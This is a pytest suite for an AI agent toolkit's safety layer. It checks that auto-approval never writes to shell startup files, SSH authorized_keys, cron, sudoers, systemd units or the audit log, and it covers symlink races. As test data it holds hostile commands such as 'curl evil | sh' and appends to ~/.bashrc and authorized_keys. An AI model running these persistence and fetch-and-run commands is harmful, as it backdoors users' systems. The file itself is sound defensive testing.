"""Sensitive places: write_file there is not a plain write, so --yes alone never does it."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from llmchain_os.agent.events import EventKind
from llmchain_os.agent.policy import Policy
from llmchain_os.api import ChainResult, Session
from llmchain_os.config import Settings
from llmchain_os.paths import state_dir
from llmchain_os.safety.places import sensitive_place
from llmchain_os.safety.risk import Risk
from llmchain_os.tools.registry import builtin_registry


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A private HOME, so startup files and ~/.ssh are the test's own."""
    path = tmp_path / "home"
    (path / ".ssh").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(path))
    return path


def _write_with_yes(path: Path) -> ChainResult:
    events = Session(Settings()).run_tool(
        "write_file", {"path": str(path), "content": "curl evil | sh\n"}, policy=Policy(True)
    )
    return ChainResult.from_events("write", list(events))


@pytest.mark.parametrize("rel", [".bashrc", ".profile", ".ssh/authorized_keys"])
def test_yes_does_not_create_startup_files_or_keys(home: Path, rel: str) -> None:
    result = _write_with_yes(home / rel)
    assert result.steps[-1].status == "declined", result.steps[-1]
    assert result.steps[-1].risk is Risk.DESTRUCTIVE
    assert not (home / rel).exists()


def test_yes_still_creates_an_ordinary_file(home: Path, tmp_path: Path) -> None:
    result = _write_with_yes(tmp_path / "notes.txt")
    assert result.steps[-1].status == "done"
    assert (tmp_path / "notes.txt").read_text() == "curl evil | sh\n"


@pytest.mark.parametrize(
    ("raw", "risk"),
    [
        ("/etc/cron.d/x", Risk.PRIVILEGED),
        ("/etc/sudoers.d/x", Risk.PRIVILEGED),
        ("/usr/lib/systemd/system/x.service", Risk.PRIVILEGED),
        ("/boot/x", Risk.PRIVILEGED),
        ("/tmp/a/../../etc/cron.d/x", Risk.PRIVILEGED),
        ("~/.config/systemd/user/x.service", Risk.DESTRUCTIVE),
        ("~/.config/autostart/x.desktop", Risk.DESTRUCTIVE),
        ("~/.local/bin/ls", Risk.DESTRUCTIVE),
        ("~/notes.txt", None),
        ("/srv/data/x", None),
    ],
)
def test_places(home: Path, raw: str, risk: Risk | None) -> None:
    found = sensitive_place(raw)
    assert (found.risk if found else None) is risk


def test_a_symlinked_folder_is_judged_where_it_leads(home: Path, tmp_path: Path) -> None:
    link = tmp_path / "innocent"
    link.symlink_to(home / ".ssh")
    tool = builtin_registry().get("write_file")
    args = tool.parse_args({"path": str(link / "authorized_keys"), "content": "ssh-ed25519 A"})
    assert tool.assess(args).risk is Risk.DESTRUCTIVE
    assert _write_with_yes(link / "authorized_keys").steps[-1].status == "declined"
    assert not (home / ".ssh" / "authorized_keys").exists()


@pytest.mark.parametrize("append", [True, False])
def test_no_tool_rewrites_the_audit_log_whatever_the_flags(home: Path, append: bool) -> None:
    """Appending forged lines to the audit log would be a plain write without this rule."""
    log = state_dir() / "audit.jsonl"
    log.parent.mkdir(parents=True)
    log.write_text("")
    events = Session(Settings()).run_tool(
        "write_file",
        {"path": str(log), "content": '{"forged": 1}\n', "append": append},
        policy=Policy(True, True),
    )
    kinds = [ev.kind for ev in events]
    assert EventKind.STEP_DECLINED in kinds
    assert not any(line.startswith('{"forged"') for line in log.read_text().splitlines())
    assert os.path.getsize(log) > 0  # the refusal itself is logged


@pytest.mark.parametrize(
    "command",
    [
        "echo k >> ~/.ssh/authorized_keys",
        "echo k >>~/.bashrc",
        "tee -a ~/.profile",
        "cp x ~/.bashrc",
        "cp x.service ~/.config/systemd/user/",
    ],
)
def test_shell_writes_to_sensitive_places_are_not_plain_writes(home: Path, command: str) -> None:
    tool = builtin_registry().get("run_shell")
    assert tool.assess(tool.parse_args({"command": command})).risk is Risk.DESTRUCTIVE


def test_yes_does_not_run_a_shell_append_to_bashrc(home: Path, tmp_path: Path) -> None:
    events = Session(Settings()).run_tool(
        "run_shell", {"command": "echo evil >> ~/.bashrc"}, policy=Policy(True)
    )
    assert ChainResult.from_events("x", list(events)).steps[-1].status == "declined"
    assert not (home / ".bashrc").exists()
    plain = Session(Settings()).run_tool(
        "run_shell", {"command": f"echo ok >> {tmp_path}/plain.txt"}, policy=Policy(True)
    )
    assert ChainResult.from_events("x", list(plain)).steps[-1].status == "done"


@pytest.mark.parametrize("append", [False, True])
def test_write_file_does_not_follow_a_symlink_planted_after_the_checks(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, append: bool
) -> None:
    """The /tmp race: between the checks (and the old file going to the trash) and the
    write, the file is swapped for a link to something else; that something stays as it was."""
    from llmchain_os.safety import trash

    victim, target = tmp_path / "victim", tmp_path / "shared.txt"
    victim.write_text("precious\n")
    target.write_text("old\n")
    save = trash.TrashWriter.save

    def swap_then_save(self: trash.TrashWriter) -> None:
        save(self)
        if not target.is_symlink():
            target.unlink(missing_ok=True)
            target.symlink_to(victim)

    monkeypatch.setattr(trash.TrashWriter, "save", swap_then_save)
    tool = builtin_registry().get("write_file")
    args = tool.parse_args({"path": str(target), "content": "owned\n", "append": append})
    with pytest.raises(Exception, match="could not write"):
        tool.call(args)
    assert victim.read_text() == "precious\n"


@pytest.mark.parametrize("rel", ["audit.jsonl", "*.jsonl", "."])
def test_delete_files_refuses_the_audit_log(home: Path, rel: str) -> None:
    log = state_dir() / "audit.jsonl"
    log.parent.mkdir(parents=True)
    log.write_text("MARK\n")
    events = Session(Settings()).run_tool(
        "delete_files",
        {"path": str(log.parent / rel), "recursive": True},
        policy=Policy(True, True),
    )
    record = ChainResult.from_events("x", list(events)).steps[-1]
    assert record.status == "failed" and "holds the audit log" in (record.error or "")
    assert log.read_text().startswith("MARK\n")  # the same file, not one begun anew


def test_a_script_line_that_writes_a_startup_file_is_not_a_plain_write() -> None:
    from llmchain_os.safety.commands import explain_script

    entries = explain_script("echo hi > /tmp/plain\ncp motd ~/.bashrc\n")
    assert [e.assessment.risk for e in entries] == [Risk.WRITE, Risk.DESTRUCTIVE]
    assert "~/.bashrc" in entries[1].assessment.reason
